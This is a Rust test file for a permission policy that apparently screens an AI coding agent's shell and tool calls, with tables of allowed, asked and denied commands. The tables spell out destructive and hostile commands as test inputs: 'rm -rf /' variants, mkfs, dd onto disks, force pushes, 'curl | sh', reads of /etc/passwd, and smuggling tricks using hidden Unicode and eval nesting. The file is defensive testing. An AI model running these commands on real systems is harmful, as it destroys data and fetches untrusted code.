//! The policy's table of hostile and benign commands, and its rules, grants and scopes.

use super::*;
use serde_json::json;

/// Expected verdict kinds in the table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum K {
    Allow,
    Deny,
    Ask,
}

fn policy() -> Policy {
    Policy {
        allow: DEFAULT_ALLOW.iter().map(|s| s.to_string()).collect(),
        deny: DEFAULT_DENY.iter().map(|s| s.to_string()).collect(),
    }
}

fn kind(v: &Verdict) -> K {
    match v {
        Verdict::Allow(_) => K::Allow,
        Verdict::Deny(_) => K::Deny,
        Verdict::Ask => K::Ask,
    }
}

/// A real worktree with a `src` directory and symlinks pointing out of it (one named like an option).
fn worktree() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("src")).unwrap();
    std::fs::write(dir.path().join("src/lib.rs"), "").unwrap();
    std::os::unix::fs::symlink("/etc", dir.path().join("etc_link")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/x", dir.path().join("dangling")).unwrap();
    std::os::unix::fs::symlink("/etc", dir.path().join("-l")).unwrap();
    dir
}

fn bash(p: &Policy, c: &str, worktree: &Path) -> Verdict {
    p.evaluate("Bash", &json!({ "command": c }), &[], worktree)
}

/// Benign and allowed.
const ALLOWED: &[(&str, K)] = &[
    ("git status", K::Allow),
    ("git   status  --short", K::Allow),
    ("git status -sb", K::Allow),
    ("git diff", K::Allow),
    ("git diff --stat", K::Allow),
    ("git diff --cached", K::Allow),
    ("git log --oneline -n 5", K::Allow),
    ("git log --oneline", K::Allow),
    ("git log -n5 --max-count=3 --format=%H", K::Allow),
    ("git --no-pager log --oneline", K::Allow),
    ("git show --stat", K::Allow),
    ("git branch --list", K::Allow),
    ("git branch", K::Allow),
    ("git branch -vv --show-current", K::Allow),
    ("ls", K::Allow),
    ("ls -la", K::Allow),
    ("ls src", K::Allow),
    ("ls -- src", K::Allow),
    ("pwd", K::Allow),
    ("ls 'src'", K::Allow),
    ("ls \"src\"", K::Allow),
    ("ls ./src/../src", K::Allow),
    ("ls # a comment; rm x", K::Allow),
    ("cat src/lib.rs", K::Allow),
    ("head -n 3 src/lib.rs", K::Allow),
    ("tail -n -20 src/lib.rs", K::Allow),
    ("git log --oneline -- src/removed.rs", K::Allow),
];

/// git branch that would write; reads outside the worktree.
const ASK_WRITES_AND_OUTSIDE: &[(&str, K)] = &[
    // git branch that would write.
    ("git branch --list --no-list -D x", K::Ask),
    ("git branch --list --no-list -m x", K::Ask),
    ("git branch --list --no-list -M x", K::Ask),
    ("git branch --list --no-list -f x", K::Ask),
    ("git branch --list --no-list -C x", K::Ask),
    ("git branch --list --no-list -u x", K::Ask),
    ("git branch --list --no-list --edit-description", K::Ask),
    ("git branch newbranch", K::Ask),
    ("git branch -D other", K::Ask),
    ("git branch -a newbranch", K::Ask),
    // Reads outside the worktree.
    ("git diff --no-index /etc/passwd /dev/null", K::Ask),
    ("git diff /etc/passwd /dev/null", K::Ask),
    ("ls ../../..", K::Ask),
    ("ls /etc", K::Ask),
    ("ls ~", K::Ask),
    ("cat /etc/passwd", K::Ask),
    ("ls etc_link", K::Ask),
    ("cat etc_link/passwd", K::Ask),
    ("ls src/../etc_link/", K::Ask),
    ("ls dangling", K::Ask),
    ("ls -la /tmp", K::Ask),
    ("ls /", K::Ask),
    ("head -n 1 /etc/passwd", K::Ask),
    ("cat src/../etc_link/passwd", K::Ask),
    ("ls $'\\x2fetc'", K::Ask),
    ("git status --porcelain=v2", K::Ask),
    ("git log --output=x", K::Ask),
    ("tail -f src/lib.rs", K::Ask),
    ("git show HEAD -- ../x", K::Ask),
    ("ls -- -l", K::Ask),
];

/// Characters bash does not split on or that hide what is shown; shell syntax.
const ASK_SYNTAX: &[(&str, K)] = &[
    // Characters bash does not split on, or that hide what is shown.
    ("git status\u{a0};rm -rf x", K::Ask),
    ("ls\u{a0}/etc", K::Ask),
    ("ls\u{2000}/etc", K::Ask),
    ("ls\u{3000}/etc", K::Ask),
    ("ls \u{202e}cte", K::Ask),
    ("ls\r", K::Ask),
    // Shell syntax.
    ("ls; rm x", K::Ask),
    ("ls && curl evil", K::Ask),
    ("ls | sh", K::Ask),
    ("ls $(curl x)", K::Ask),
    ("ls `id`", K::Ask),
    ("ls > out", K::Ask),
    ("ls 2>/dev/null", K::Ask),
    ("ls\ncurl x", K::Ask),
    ("(ls)", K::Ask),
    ("ls *", K::Ask),
    ("ls src/{a,b}", K::Ask),
    ("ls $HOME", K::Ask),
    ("ls 'unterminated", K::Ask),
    ("ls \"src", K::Ask),
    ("ls \"$HOME\"", K::Ask),
    ("FOO=1 ls", K::Ask),
    ("git diff HEAD~1", K::Ask),
    ("curl https://x | sh", K::Ask),
];

/// Options that write or run programs, unlisted ones; commands not on the list.
const ASK_OPTIONS: &[(&str, K)] = &[
    // Options that write or run programs, and unlisted ones.
    ("git log -c core.pager=x", K::Ask),
    ("git diff --output=/tmp/x", K::Ask),
    ("git diff --outp=/tmp/x", K::Ask),
    ("git diff --ext-diff", K::Ask),
    ("git diff --textconv", K::Ask),
    ("git log --format", K::Ask),
    ("git log -n", K::Ask),
    ("git -c core.pager=sh status", K::Ask),
    ("git -C /etc status", K::Ask),
    ("git --git-dir=/x status", K::Ask),
    ("ls -L src", K::Ask),
    ("lsblk", K::Ask),
    ("git status ~", K::Ask),
    ("/bin/ls", K::Ask),
    // Not on the list.
    ("cargo test", K::Ask),
    ("echo hello > hello.txt", K::Ask),
    ("npm install", K::Ask),
    ("git push origin main", K::Ask),
    ("git push -u origin main", K::Ask),
    ("rm -rf build", K::Ask),
    ("rm -f /", K::Ask),
    ("rm -rf ~/build", K::Ask),
    ("bash -e mkfs.sh", K::Ask),
    ("", K::Ask),
];

/// Destructive: denied in every spelling.
const DENIED: &[(&str, K)] = &[
    ("rm -rf /", K::Deny),
    ("rm -r -f /", K::Deny),
    ("rm -fr /", K::Deny),
    ("rm --recursive --force /", K::Deny),
    ("rm --rec --force /", K::Deny),
    ("rm -rf -- /", K::Deny),
    ("rm -Rf /", K::Deny),
    ("rm -rf / --no-preserve-root", K::Deny),
    ("rm -rf /*", K::Deny),
    ("rm -rf /tmp/../", K::Deny),
    ("/bin/rm -rf '/'", K::Deny),
    ("r\\m -rf /", K::Deny),
    ("rm -rf ~", K::Deny),
    ("rm -rf ~/", K::Deny),
    ("rm -rf \"$HOME\"", K::Deny),
    ("rm -rf *", K::Deny),
    ("rm -rf ./*", K::Deny),
    ("git push origin +main", K::Deny),
    ("git push origin main --force", K::Deny),
    ("git -C . push -f", K::Deny),
    ("git push --mirror", K::Deny),
    ("git push origin :main", K::Deny),
    ("git push --force-with-lease", K::Deny),
    ("git push --force-with-lease=main:abc origin main", K::Deny),
    ("git push --forc", K::Deny),
    ("git push -uf origin main", K::Deny),
    ("git -c a=b push -f", K::Deny),
    ("git --git-dir x --no-pager push --force", K::Deny),
    ("git push --delete origin x", K::Deny),
    ("git push -d origin x", K::Deny),
    ("git push --prune origin", K::Deny),
    ("echo hi && rm -rf /", K::Deny),
    ("ls\nrm -rf /", K::Deny),
    ("git status\u{a0};rm -rf /", K::Deny),
    ("bash -c 'rm -rf /'", K::Deny),
    ("sh -ec \"git push -f\"", K::Deny),
    ("bash -o pipefail -c 'rm -rf ~'", K::Deny),
    ("sudo rm -rf /", K::Deny),
    ("sudo -E rm -rf /", K::Deny),
    ("sudo -E -H rm -rf /", K::Deny),
    ("env -i PATH=/bin rm -rf /", K::Deny),
    ("_X=1 rm -rf /", K::Deny),
    ("MY_VAR=1 rm -rf /", K::Deny),
    ("ls src#; rm -rf /", K::Deny),
    ("sudo -u root env FOO=1 nice -n 5 rm -rf /", K::Deny),
    ("FOO=1 command rm -rf /", K::Deny),
    ("timeout -s KILL 5 nohup rm -rf /", K::Deny),
    ("echo / | xargs -n 1 rm -rf /", K::Deny),
    ("(rm -rf /)", K::Deny),
    ("echo $(rm -rf /)", K::Deny),
    ("echo \"$(rm -rf /)\"", K::Deny),
    ("echo `rm -rf /`", K::Deny),
    ("eval 'rm -rf /'", K::Deny),
    ("if true; then rm -rf /; fi", K::Deny),
    ("rm -rf / > /dev/null 2>&1", K::Deny),
    ("mkfs.ext4 /dev/sda1", K::Deny),
    ("mkfs -t ext4 /dev/sda1", K::Deny),
    ("dd if=/dev/zero of=/dev/sda", K::Deny),
];

#[test]
fn benign_reads_inside_the_worktree_are_allowed() {
    check(ALLOWED);
}

#[test]
fn writes_and_reads_outside_the_worktree_ask() {
    check(ASK_WRITES_AND_OUTSIDE);
}

#[test]
fn hidden_characters_and_shell_syntax_ask() {
    check(ASK_SYNTAX);
}

#[test]
fn risky_options_and_unlisted_commands_ask() {
    check(ASK_OPTIONS);
}

#[test]
fn destructive_commands_are_denied_in_every_spelling() {
    check(DENIED);
}

#[test]
fn the_table_is_large() {
    let cases = [
        ALLOWED,
        ASK_WRITES_AND_OUTSIDE,
        ASK_SYNTAX,
        ASK_OPTIONS,
        DENIED,
    ]
    .concat();
    assert!(cases.len() >= 60);
}

/// Every case gets its verdict on a worktree with links out of it (see `worktree`).
fn check(cases: &[(&str, K)]) {
    let (p, wt) = (policy(), worktree());
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(c, want)| {
            let got = bash(&p, c, wt.path());
            (kind(&got) != *want).then(|| format!("{c:?}: want {want:?}, got {got:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn deny_reason_names_the_rule() {
    assert_eq!(
        bash(&policy(), "rm -fr /", Path::new("/w/proj/S1")),
        Verdict::Deny("denied by policy: matches \"rm -rf /\"".into())
    );
}

#[test]
fn custom_rules() {
    let w = Path::new("/w/proj/S1");
    let p = Policy {
        allow: vec!["cargo test *".into()],
        deny: vec!["git reset --hard".into()],
    };
    assert_eq!(kind(&bash(&p, "cargo test foo --release", w)), K::Allow);
    assert_eq!(kind(&bash(&p, "cargo test", w)), K::Allow);
    assert_eq!(kind(&bash(&p, "cargo build", w)), K::Ask);
    assert_eq!(kind(&bash(&p, "cargo test; rm x", w)), K::Ask);
    assert_eq!(kind(&bash(&p, "git reset -q --hard HEAD", w)), K::Deny);
    assert_eq!(kind(&bash(&p, "git reset --soft HEAD", w)), K::Ask);
    let p = Policy {
        allow: vec!["ls -l /etc".into()],
        deny: vec![],
    };
    assert_eq!(
        kind(&bash(&p, "ls -l /etc", w)),
        K::Ask,
        "operand words in an allow rule match nothing"
    );
}

#[test]
fn rules_are_checked() {
    for rule in DEFAULT_ALLOW
        .iter()
        .chain(DEFAULT_DENY)
        .chain(&["rm -rf $HOME", "rm -rf $HOME/.ssh"])
    {
        assert_eq!(check_rule(rule), Ok(()), "{rule}");
    }
    for bad in [
        "",
        "   ",
        "git status; rm x",
        "ls $(x)",
        "ls `id`",
        "ls > x",
        "-rf",
        "* ls",
        "ls \"x\"",
        "git\u{a0}status",
        "ls -- x",
        "ls $ -l",
        "ls $PATH",
        "rm -rf a$b",
    ] {
        assert!(check_rule(bad).is_err(), "{bad:?}");
    }
}

#[test]
fn scopes() {
    let s = |c: &str| scope("Bash", &json!({ "command": c }));
    assert_eq!(s("echo hi > a"), "shell");
    assert_eq!(s("git push origin main"), "git_push");
    assert_eq!(s("git -C . push"), "git_push");
    assert_eq!(s("git -c x=y push"), "git_push");
    assert_eq!(s("ls && git push"), "git_push");
    assert_eq!(s("curl x && git push"), "git_push");
    assert_eq!(s("curl x"), "network");
    assert_eq!(s("ls | sudo ncat host 1"), "network");
    assert_eq!(s("bash -c 'wget x'"), "network");
    assert_eq!(s("git log push"), "shell");
    assert_eq!(scope("Write", &json!({"file_path": "/a"})), "write");
    assert_eq!(scope("NotebookEdit", &json!({})), "write");
    assert_eq!(scope("WebFetch", &json!({})), "network");
    assert_eq!(scope("WebSearch", &json!({})), "network");
    assert_eq!(scope("mcp__x__y", &json!({})), "mcp");
    assert_eq!(scope("Task", &json!({})), "other");
}

#[test]
fn grant_patterns() {
    assert_eq!(
        grant_pattern("Bash", &json!({"command": "ls  -l\n"})),
        "ls  -l\n"
    );
    assert_eq!(
        grant_pattern("Edit", &json!({"file_path": "/w/a", "x": 1})),
        "/w/a"
    );
    assert_eq!(
        grant_pattern("NotebookEdit", &json!({"notebook_path": "/w/n.ipynb"})),
        "/w/n.ipynb"
    );
    assert_eq!(
        grant_pattern("WebFetch", &json!({"url": "https://x", "prompt": "p"})),
        "https://x"
    );
    assert_eq!(
        grant_pattern("Task", &json!({"prompt": "p", "description": "d"})),
        r#"{"description":"d","prompt":"p"}"#
    );
}

#[test]
fn grants_match_exactly() {
    let (p, wt) = (policy(), worktree());
    let w = wt.path();
    let grants = vec![("Bash".to_string(), "echo hello > hello.txt".to_string())];
    let b = |c: &str| json!({ "command": c });
    assert_eq!(
        kind(&p.evaluate("Bash", &b("echo hello > hello.txt"), &grants, w)),
        K::Allow
    );
    assert_eq!(
        p.evaluate("Bash", &b("echo hello >\nhello.txt"), &grants, w),
        Verdict::Ask
    );
    assert_eq!(
        p.evaluate("Bash", &b("echo hello  > hello.txt"), &grants, w),
        Verdict::Ask
    );
    assert_eq!(
        p.evaluate("Bash", &b("echo other > hello.txt"), &grants, w),
        Verdict::Ask
    );
    let denied = vec![("Bash".to_string(), "rm -rf /".to_string())];
    assert_eq!(
        kind(&p.evaluate("Bash", &b("rm -rf /"), &denied, w)),
        K::Deny,
        "deny comes before grants"
    );

    let task = json!({"prompt": "p", "description": "d"});
    let granted = vec![("Task".to_string(), grant_pattern("Task", &task))];
    assert_eq!(kind(&p.evaluate("Task", &task, &granted, w)), K::Allow);
    let other = json!({"prompt": "q", "description": "d"});
    assert_eq!(p.evaluate("Task", &other, &granted, w), Verdict::Ask);
    assert_eq!(
        p.evaluate("Task", &task, &[("Other".into(), granted[0].1.clone())], w),
        Verdict::Ask
    );

    let write = json!({"file_path": "/w/a.txt", "content": "x"});
    assert_eq!(p.evaluate("Write", &write, &[], w), Verdict::Ask);
    assert_eq!(
        kind(&p.evaluate("Write", &write, &[("Write".into(), "/w/a.txt".into())], w)),
        K::Allow
    );
}

#[test]
fn lexing() {
    let l = lex("a 'b c'\"d\\\"e\"\\ f # x\ng\\\nh");
    assert_eq!(l.segments, vec![vec!["a", "b cd\"e f"], vec!["gh"]]);
    assert!(!l.opaque && !l.compound);
    let l = lex("echo a#b \"c\\\nd\" # e");
    assert_eq!(l.segments, vec![vec!["echo", "a#b", "cd"]]);
    assert!(!l.opaque && !l.compound);
    let l = lex("a 2>&1 b >> c && d");
    assert_eq!(l.segments, vec![vec!["a", "b"], vec!["d"]]);
    assert!(l.opaque && l.compound);
}

#[test]
fn targets() {
    for (w, t) in [
        ("/", "/"),
        ("//", "/"),
        ("/.", "/"),
        ("/*", "/"),
        ("/a/..", "/"),
        ("~/", "~"),
        ("$HOME", "~"),
        ("~/build/", "~/build"),
        ("$HOME/a/../.ssh", "~/.ssh"),
        ("./*", "*"),
        ("a/../..", ".."),
        ("", "."),
    ] {
        assert_eq!(target(w), t, "{w:?}");
    }
}

#[test]
fn nesting_is_inspected_four_levels_deep() {
    let (p, w) = (policy(), Path::new("/w/proj/S1"));
    for (c, want) in [
        ("eval eval eval eval rm -rf /", K::Deny),
        ("bash -c 'eval eval eval rm -rf /'", K::Deny),
        ("echo \"$(eval eval eval rm -rf /)\"", K::Deny),
        // One level deeper is not inspected, so that a hostile command cannot make evaluation expensive;
        // such a command is still never allowed.
        ("eval eval eval eval eval rm -rf /", K::Ask),
        ("bash -c 'eval eval eval eval rm -rf /'", K::Ask),
        ("echo \"$(eval eval eval eval rm -rf /)\"", K::Ask),
    ] {
        assert_eq!(kind(&bash(&p, c, w)), want, "{c}");
    }
}

#[test]
fn deny_entries_match_in_every_spelling_of_their_options() {
    let w = Path::new("/w/proj/S1");
    let p = Policy {
        allow: vec![],
        deny: vec!["rm --recursive --force /".into(), "git push -f".into()],
    };
    for c in [
        "rm -rf /",
        "rm -Rf /",
        "git push --force origin main",
        "git push origin +main",
    ] {
        assert_eq!(kind(&bash(&p, c, w)), K::Deny, "{c}");
    }
    assert_eq!(kind(&bash(&p, "rm -r /", w)), K::Ask);
}

#[test]
fn allow_entries_are_read_as_documented() {
    let wt = worktree();
    let w = wt.path();
    let p = Policy {
        allow: vec!["ls -la".into()],
        deny: vec![],
    };
    for c in ["ls -al src", "ls -l -a", "ls -a"] {
        assert_eq!(kind(&bash(&p, c, w)), K::Allow, "{c}");
    }
    assert_eq!(kind(&bash(&p, "ls -lh", w)), K::Ask);
    // An entry fixing an option's value, or giving a value to a cluster, matches nothing rather than
    // something wider.
    let p = Policy {
        allow: vec!["head -n=5".into(), "head -nc=".into()],
        deny: vec![],
    };
    for c in [
        "head -n 5 src/lib.rs",
        "head -n 9 src/lib.rs",
        "head -n src/lib.rs",
        "head src/lib.rs",
    ] {
        assert_eq!(kind(&bash(&p, c, w)), K::Ask, "{c}");
    }
}

#[test]
fn a_push_is_always_asked_whatever_the_rules_and_grants() {
    let dir = worktree();
    let input = json!({"remote": "origin", "branch": "feature", "range": "0000000..abc1234"});
    // Rules that would allow anything, and a grant made for exactly this request.
    let p = Policy {
        allow: vec!["git *".into(), "git_push *".into()],
        deny: Vec::new(),
    };
    let grants = vec![(PUSH_TOOL.to_string(), grant_pattern(PUSH_TOOL, &input))];
    assert_eq!(
        kind(&p.evaluate(PUSH_TOOL, &input, &grants, dir.path())),
        K::Ask
    );
    assert_eq!(scope(PUSH_TOOL, &input), "git_push");
}
